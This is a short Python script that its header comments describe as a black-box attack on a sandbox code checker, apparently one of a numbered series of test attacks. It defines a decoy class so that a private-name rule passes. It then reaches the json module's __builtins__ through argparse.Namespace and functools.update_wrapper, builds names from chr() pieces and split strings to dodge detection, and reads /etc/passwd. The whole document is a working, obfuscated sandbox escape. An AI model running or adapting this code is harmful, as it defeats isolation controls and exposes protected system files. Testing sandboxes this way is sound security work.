# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 4 private-name decoy
# source: own; argparse.Namespace._get_kwargs returns self.__dict__ items; README: a private name is accepted when the script defines one of the same name
# family: private-name rule satisfied by an unrelated script-defined attribute
# goal: json module globals (incl. __builtins__) -> open /etc/passwd
import argparse
import functools
import json


class Decoy:
    def _get_kwargs(self):
        return []


ns = argparse.Namespace()
functools.update_wrapper(ns, json)
g = dict(ns._get_kwargs())
u = chr(95) * 2
b = g[u + "builtins" + u]
f = b["op" + "en"](chr(47) + "etc" + chr(47) + "passwd")
print(json.dumps({"evidence": f.read()[:100]}))
